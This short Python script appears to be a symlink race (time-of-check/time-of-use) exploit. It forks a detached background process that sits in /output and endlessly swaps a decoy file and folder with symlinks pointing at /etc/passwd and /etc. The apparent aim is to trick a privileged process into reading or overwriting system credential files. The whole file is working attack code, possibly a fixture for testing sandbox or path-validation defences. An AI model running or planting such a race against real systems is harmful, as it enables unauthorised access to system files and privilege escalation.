"""Swaps a file with links and folders without pause while its parent is long gone."""
import os

reader, writer = os.pipe()
if os.fork() == 0:
    os.setsid()
    os.chdir("/output")
    os.symlink("/etc/passwd", "link")
    open("file", "w").write("mine")
    os.mkdir("folder")
    open("folder/passwd", "w").write("mine")
    os.symlink("/etc", "etc")
    os.write(writer, b"up")
    while True:
        for a, b in (("link", "file"), ("etc", "folder")):
            os.rename(a, "t")
            os.rename(b, a)
            os.rename("t", b)
os.read(reader, 2)
os._exit(0)
